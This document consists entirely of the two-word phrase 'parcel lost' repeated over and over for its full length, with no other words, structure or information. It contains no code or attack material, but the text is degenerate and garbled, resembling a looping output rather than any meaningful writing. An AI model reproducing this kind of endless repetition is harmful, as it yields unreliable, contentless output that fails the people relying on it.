parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel 